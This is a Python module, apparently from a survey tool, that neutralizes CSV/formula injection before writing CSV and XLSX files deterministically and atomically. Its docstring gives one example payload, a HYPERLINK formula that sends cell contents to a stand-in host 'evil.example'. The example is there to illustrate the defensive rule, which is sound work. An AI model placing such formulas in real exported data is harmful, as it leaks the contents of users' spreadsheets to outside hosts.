"""Writing CSV and XLSX files that are safe to open in a spreadsheet.

A text cell starting with ``=``, ``+``, ``-`` or ``@`` is run as a formula by Excel,
WPS and LibreOffice when a CSV is opened (CSV or formula injection), e.g. a
free-text answer ``=HYPERLINK("http://evil.example/?"&A1,"click")`` could send
other cells away. Following the OWASP "CSV Injection" guidance,
:func:`neutralize_formulas` prefixes such text with a single quote ``'``, which
spreadsheets show as text and never evaluate. :func:`write_csv` and
:func:`write_xlsx` neutralize, then write deterministically and atomically;
every CSV and XLSX the workbench writes should go through them.

Rule (see :func:`neutralize_formulas`):

* Triggers: a text value whose first character is ``=`` ``+`` ``-`` ``@``, a tab
  or a carriage return, or whose first character after leading whitespace is one of
  ``= + - @``, or the full-width forms ``＝ ＋ － ＠`` (Chinese input methods type
  these; some spreadsheet builds accept them as formula starts, so they are treated
  the same, as a precaution).
* Exception: text that is a plain number (``-3``, ``+2.5``, ``-1e-3``) is left alone.
  A spreadsheet reads it as that number, which cannot run anything, and prefixing
  it would turn legitimate negative values stored as text into text. OWASP
  suggests prefixing every trigger; this exception is a deliberate, documented
  narrowing. ``-2+3`` is not a plain number and is neutralized.
* Only text is touched: numeric, boolean and date columns are never changed, so
  negative numbers stored as numbers stay numbers.
"""

from __future__ import annotations

import datetime as _dt
import io
import math
import re
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd

from core.atomic import write_bytes

__all__ = ["is_formula_like", "neutralize_formulas", "neutralize_text", "write_csv", "write_xlsx"]

_TRIGGER_RE = re.compile(r"^(?:[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]|\s+[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])")
_NUMBER_RE = re.compile(r"^\s*[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\s*$")
_ILLEGAL_XML_RE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_FIXED_TIME = (1980, 1, 1, 0, 0, 0)


def is_formula_like(value) -> bool:
    """True when ``value`` is text a spreadsheet could run as a formula.

    Examples
    --------
    >>> [is_formula_like(v) for v in ["=1+1", "+1+1", "-2+3", "@SUM(1)", "-3", "a=b", 5]]
    [True, True, True, True, False, False, False]
    """
    return (isinstance(value, str) and _TRIGGER_RE.match(value) is not None
            and _NUMBER_RE.match(value) is None)


def neutralize_text(value):
    """``"'" + value`` when :func:`is_formula_like`, else ``value`` unchanged.

    Examples
    --------
    >>> neutralize_text('=HYPERLINK("http://x","y")'), neutralize_text("-3")
    ('\\'=HYPERLINK("http://x","y")', '-3')
    """
    return "'" + value if is_formula_like(value) else value


def _distinct(s: pd.Series):
    """The distinct values of ``s`` (all of its values when they cannot be hashed).

    What the writers check of a text value depends on the value alone, so checking
    each distinct value once says the same as checking every row.
    """
    try:
        return s.unique()
    except TypeError:
        return s


def _is_text_dtype(dtype) -> bool:
    return isinstance(dtype, pd.CategoricalDtype) or pd.api.types.is_string_dtype(dtype)


def _neutralize_column(s: pd.Series) -> pd.Series:
    if isinstance(s.dtype, pd.CategoricalDtype):
        cats = s.cat.categories
        if cats.dtype.kind in "OTU" or pd.api.types.is_string_dtype(cats.dtype):
            new = [neutralize_text(c) for c in cats]
            if len(set(new)) == len(new):
                return s.cat.rename_categories(new)
            return s.astype(object).map(neutralize_text)
        return s
    if pd.api.types.is_string_dtype(s.dtype) and s.dtype != object:
        if not any(isinstance(v, str) and _TRIGGER_RE.match(v) for v in _distinct(s)):
            return s  # nothing starts like a formula (the common case; a regex per value is slow)
        mask = s.str.match(_TRIGGER_RE.pattern).fillna(False) & \
            ~s.str.match(_NUMBER_RE.pattern).fillna(False)
        mask = mask.astype(bool)
        return s.where(~mask, "'" + s) if mask.any() else s
    if s.dtype == object:
        if not any(is_formula_like(v) for v in s):
            return s
        return s.map(neutralize_text, na_action="ignore")
    return s


def neutralize_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """Make text that a spreadsheet would run as a formula inert.

    In text columns (``str``, ``object`` and categorical with text categories),
    each value for which :func:`is_formula_like` is true gets a leading ``'``;
    column names are treated the same way. Numeric, boolean and datetime columns
    and non-text values in ``object`` columns are untouched. The index is not
    changed (the writers below do not write it; ``reset_index()`` first if it
    matters).

    Parameters
    ----------
    df : DataFrame

    Returns
    -------
    DataFrame
        A new frame; ``df`` is not modified.

    Examples
    --------
    >>> import pandas as pd
    >>> df = pd.DataFrame({"answer": ["=1+1", "-3", "ok", "@SUM(1)"], "x": [-1.5, 2, 3, 4]})
    >>> out = neutralize_formulas(df)
    >>> out["answer"].tolist(), out["x"].tolist()
    (["'=1+1", '-3', 'ok', "'@SUM(1)"], [-1.5, 2.0, 3.0, 4.0])
    """
    out = df.copy()
    for i, dtype in enumerate(out.dtypes):
        if not _is_text_dtype(dtype):  # numbers, booleans and dates are never changed
            continue
        col = out.iloc[:, i]
        new = _neutralize_column(col)
        if new is not col:
            out.isetitem(i, new)
    out.columns = [neutralize_text(c) if isinstance(c, str) else c for c in out.columns]
    return out


def _newline(v):
    return v.replace("\r\n", "\n").replace("\r", "\n") if isinstance(v, str) and "\r" in v else v


def _normalize_newlines(df: pd.DataFrame) -> pd.DataFrame:
    """Write line breaks inside text as ``\\n``.

    Python's csv module (and so pandas) does not quote a field holding a bare
    carriage return when lines end with ``\\n``; readers then split the row there,
    and the text after the CR would start a new, unneutralized cell.
    """
    out = df
    for i, dtype in enumerate(df.dtypes):
        if not _is_text_dtype(dtype):
            continue
        s = df.iloc[:, i]
        if isinstance(s.dtype, pd.CategoricalDtype):
            cats = s.cat.categories
            if any(isinstance(c, str) and "\r" in c for c in cats):
                out = out.copy() if out is df else out
                out.isetitem(i, s.astype(object).map(_newline))
        elif s.dtype == object or pd.api.types.is_string_dtype(s.dtype):
            if any(isinstance(v, str) and "\r" in v for v in _distinct(s)):
                out = out.copy() if out is df else out
                out.isetitem(i, s.map(_newline, na_action="ignore"))
    if any(isinstance(c, str) and "\r" in c for c in df.columns):
        out = out.copy() if out is df else out
        out.columns = [_newline(c) for c in df.columns]
    return out


def write_csv(df: pd.DataFrame, path: Path | str, *, bom: bool = False) -> Path:
    """Write ``df`` as a formula-safe, deterministic CSV, atomically.

    Values are neutralized (:func:`neutralize_formulas`); line breaks inside text
    are written as ``\\n`` (a bare carriage return would not be quoted by the csv
    module and would split the row); the file is UTF-8 with ``\\n`` line endings, no index, empty cells for missing values, and floats in
    their shortest round-trip form (Python ``repr``: ``0.1``, ``1e-05``), so the
    same frame always gives the same bytes. The file is written to a temporary
    file in the same folder and renamed over ``path``: a reader never sees half a
    file.

    Parameters
    ----------
    df : DataFrame
    path : Path
        Target file; its folder must exist.
    bom : bool, default False
        Start with a UTF-8 byte-order mark. Excel on Chinese Windows reads a CSV
        without one as GBK and garbles Chinese text; set ``bom=True`` for files
        meant to be opened there.

    Returns
    -------
    Path

    Examples
    --------
    >>> import tempfile, pandas as pd
    >>> from pathlib import Path
    >>> p = Path(tempfile.mkdtemp()) / "t.csv"
    >>> _ = write_csv(pd.DataFrame({"a": ["=1+1", None], "b": [0.1, -2.0]}), p)
    >>> p.read_text(encoding="utf-8")
    "a,b\\n'=1+1,0.1\\n,-2.0\\n"
    """
    path = Path(path)
    safe = _normalize_newlines(neutralize_formulas(df))
    text = safe.to_csv(index=False, lineterminator="\n", na_rep="")
    data = text.encode("utf-8")
    if bom:
        data = b"\xef\xbb\xbf" + data
    write_bytes(path, data)
    return path


def _cell(v):
    if v is None or v is pd.NA or v is pd.NaT:
        return None
    if isinstance(v, (float, np.floating)):
        return None if math.isnan(v) else float(v)
    if isinstance(v, (bool, np.bool_)):
        return bool(v)
    if isinstance(v, np.integer):
        return int(v)
    if isinstance(v, pd.Timestamp):
        return v.to_pydatetime().replace(tzinfo=None)
    if isinstance(v, str):
        return _ILLEGAL_XML_RE.sub("\ufffd", v)
    if isinstance(v, (int, float, _dt.datetime, _dt.date)):
        return v
    return _ILLEGAL_XML_RE.sub("\ufffd", str(v))


def _deterministic_zip(data: bytes) -> bytes:
    """Rewrite an XLSX with fixed member times and fixed document timestamps."""
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "docProps/core.xml":
                body = re.sub(rb"(<dcterms:(created|modified)[^>]*>)[^<]*(</dcterms:\2>)",
                              rb"\g<1>1980-01-01T00:00:00Z\g<3>", body)
            zi = zipfile.ZipInfo(info.filename, date_time=_FIXED_TIME)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = 0o644 << 16
            dst.writestr(zi, body)
    return buf.getvalue()


def write_xlsx(df: pd.DataFrame, path: Path | str, *, sheet_name: str = "data") -> Path:
    """Write ``df`` as a formula-safe, deterministic XLSX, atomically.

    Values are neutralized (:func:`neutralize_formulas`) and every text cell is
    stored as a string cell, never as a formula. Line breaks inside text are
    written as ``\\n`` (XML would turn a carriage return into one anyway). Missing values are empty cells;
    control characters that XML cannot hold are replaced by U+FFFD. Document
    timestamps and ZIP member times are fixed (1980-01-01), so the same frame
    always gives the same bytes.

    Parameters
    ----------
    df : DataFrame
    path : Path
    sheet_name : str, default "data"

    Returns
    -------
    Path

    Examples
    --------
    >>> import tempfile, pandas as pd
    >>> from pathlib import Path
    >>> p = Path(tempfile.mkdtemp()) / "t.xlsx"
    >>> _ = write_xlsx(pd.DataFrame({"a": ["=1+1"], "b": [-2]}), p)
    >>> pd.read_excel(p).to_dict("records")
    [{'a': "'=1+1", 'b': -2}]
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    path = Path(path)
    safe = _normalize_newlines(neutralize_formulas(df))
    wb = Workbook(write_only=True)
    wb.properties.creator = "Survey Workbench"
    fixed = _dt.datetime(1980, 1, 1)
    wb.properties.created = fixed
    ws = wb.create_sheet(title=_ILLEGAL_XML_RE.sub("", str(sheet_name))[:31] or "data")

    def row_cells(values):
        cells = []
        for v in values:
            v = _cell(v)
            c = WriteOnlyCell(ws, value=v)
            if isinstance(v, str):
                c.data_type = "s"  # a string, never a formula
            cells.append(c)
        return cells

    ws.append(row_cells([str(c) for c in safe.columns]))
    for row in safe.itertuples(index=False, name=None):
        ws.append(row_cells(row))
    buf = io.BytesIO()
    wb.save(buf)
    write_bytes(path, _deterministic_zip(buf.getvalue()))
    return path
